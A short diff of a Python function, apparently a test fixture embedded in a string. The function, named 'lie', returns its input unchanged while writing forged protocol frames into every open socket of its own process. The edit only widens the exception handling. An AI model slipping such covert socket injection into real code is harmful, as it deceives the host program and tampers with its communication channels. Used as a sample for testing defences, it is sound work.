@@ -37,11 +37,12 @@ def frame(kind, payload):
 def lie(x: int) -> int:
     schema, batch = compressed()
     for name in os.listdir("/proc/self/fd"):
-        if "socket" in os.readlink(f"/proc/self/fd/{name}"):
-            try:
+        try:
+            # The list has the descriptor of its own folder as well.
+            if "socket" in os.readlink(f"/proc/self/fd/{name}"):
                 os.write(int(name), frame(6, schema) + frame(7, batch))
-            except OSError:
-                pass
+        except OSError:
+            pass
     return x
 """
 
